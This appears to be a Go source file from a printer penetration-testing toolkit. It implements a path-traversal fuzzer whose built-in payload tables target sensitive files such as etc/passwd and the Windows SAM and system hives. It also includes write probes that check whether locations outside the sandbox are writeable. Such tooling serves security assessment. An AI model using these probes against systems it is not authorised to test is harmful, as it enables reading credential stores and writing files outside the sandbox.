package prex

import (
	"bytes"
	"strings"
)

// FuzzCatalog holds the path prefixes and well-known file names used
// by the fuzzing modes. Callers treat it read-only.
type FuzzCatalog struct {
	Volumes    []string `yaml:"volumes"`
	EnvVars    []string `yaml:"env_vars"`
	WinVars    []string `yaml:"win_vars"`
	SMB        []string `yaml:"smb"`
	Web        []string `yaml:"web"`
	Traversals []string `yaml:"traversals"`
	FHSDirs    []string `yaml:"fhs_dirs"`
	AbsFiles   []string `yaml:"abs_files"`
	RelFiles   []string `yaml:"rel_files"`
}

// DefaultCatalog returns the built-in payload tables.
func DefaultCatalog() FuzzCatalog {
	return FuzzCatalog{
		Volumes:    []string{"", ".", `\`, "/", "file:///", "C:/"},
		EnvVars:    []string{"~", "$HOME"},
		WinVars:    []string{"%WINDIR%", "%SYSTEMROOT%", "%HOMEPATH%", "%PROGRAMFILES%"},
		SMB:        []string{`\\127.0.0.1\`},
		Web:        []string{"http://127.0.0.1/"},
		Traversals: []string{"..", "...", "...."},
		FHSDirs: []string{"/etc", "/bin", "/sbin", "/home", "/proc", "/dev",
			"/lib", "/opt", "/run", "/sys", "/tmp", "/usr", "/var", "/mnt"},
		AbsFiles: []string{".profile", "etc/passwd", "bin/sh", "bin/ls",
			"boot.ini", "windows/win.ini", "windows/cmd.exe"},
		RelFiles: []string{
			`%WINDIR%\win.ini`,
			`%WINDIR%\repair\sam`,
			`%WINDIR%\repair\system`,
			`%WINDIR%\system32\config\system.sav`,
			`%WINDIR%\System32\drivers\etc\hosts`,
			`%SYSTEMDRIVE%\boot.ini`,
			`%USERPROFILE%\ntuser.dat`,
			`%SYSTEMDRIVE%\pagefile.sys`,
			`%SYSTEMROOT%\repair\sam`,
			`%SYSTEMROOT%\repair\system`,
		},
	}
}

// PathPrefixes returns the prefixes probed in path fuzzing mode.
func (c FuzzCatalog) PathPrefixes() []string {
	return concat(c.Volumes, c.EnvVars, c.WinVars, c.SMB, c.Web)
}

// WritePrefixes returns the prefixes probed in write fuzzing mode.
func (c FuzzCatalog) WritePrefixes() []string {
	return concat(c.Volumes, c.EnvVars, c.WinVars, c.SMB, c.FHSDirs)
}

// BlindPrefixes returns the prefixes probed in blind fuzzing mode.
func (c FuzzCatalog) BlindPrefixes() []string {
	return concat(c.Volumes, c.EnvVars)
}

func concat(lists ...[]string) []string {
	var out []string
	for _, l := range lists {
		out = append(out, l...)
	}
	return out
}

// FuzzResult records one probe of the fuzzing driver.
type FuzzResult struct {
	Path string // the probed remote path
	Hit  bool
	Note string // what the probe revealed
}

// Fuzzer drives traversal probes against a dialect filesystem.
type Fuzzer struct {
	FS      FileSystem
	Catalog FuzzCatalog

	// Probe, when set, is called before each probe; useful for
	// progress output during long runs.
	Probe func(path string)
}

// NewFuzzer returns a fuzzer over fs with the built-in catalog.
func NewFuzzer(fs FileSystem) *Fuzzer {
	return &Fuzzer{FS: fs, Catalog: DefaultCatalog()}
}

func (f *Fuzzer) probe(path string) {
	if f.Probe != nil {
		f.Probe(path)
	}
}

// FuzzPath checks whether path prefixes escape the volume sandbox by
// listing each candidate location. Traversal sequences are appended to
// each prefix too.
func (f *Fuzzer) FuzzPath() []FuzzResult {
	var results []FuzzResult
	for _, prefix := range f.Catalog.PathPrefixes() {
		for _, dir := range append([]string{""}, f.Catalog.Traversals...) {
			target := joinFuzz(prefix, dir)
			f.probe(target)
			entries, err := f.FS.List(target)
			if err == nil && len(entries) > 0 {
				results = append(results, FuzzResult{Path: target, Hit: true,
					Note: "listable"})
			}
		}
	}
	return results
}

// FuzzWrite drops a probe file under each write prefix and reads it
// back. A verified round trip means the location is writeable from the
// print channel.
func (f *Fuzzer) FuzzWrite() []FuzzResult {
	const name = ".probe"
	data := []byte("probe")
	var results []FuzzResult
	for _, prefix := range f.Catalog.WritePrefixes() {
		target := joinFuzz(prefix, name)
		f.probe(target)
		if err := f.FS.Write(target, data); err != nil {
			continue
		}
		got, err := f.FS.Read(target)
		if err == nil && bytes.Equal(got, data) {
			results = append(results, FuzzResult{Path: target, Hit: true,
				Note: "writeable, verified by readback"})
			f.FS.Delete(target)
		}
	}
	return results
}

// FuzzBlind tries to read well-known sensitive files through each
// blind prefix. Any non-empty read is a hit.
func (f *Fuzzer) FuzzBlind() []FuzzResult {
	var names []string
	names = append(names, f.Catalog.AbsFiles...)
	names = append(names, f.Catalog.RelFiles...)

	var results []FuzzResult
	for _, prefix := range f.Catalog.BlindPrefixes() {
		for _, name := range names {
			target := joinFuzz(prefix, name)
			f.probe(target)
			data, err := f.FS.Read(target)
			if err == nil && len(data) > 0 {
				results = append(results, FuzzResult{Path: target, Hit: true,
					Note: "readable"})
			}
		}
	}
	return results
}

// joinFuzz concatenates a raw prefix and a name without normalizing;
// the malformed shapes are the point.
func joinFuzz(prefix, name string) string {
	if prefix == "" || strings.HasSuffix(prefix, SEP) || strings.HasSuffix(prefix, `\`) {
		return prefix + name
	}
	return prefix + SEP + name
}
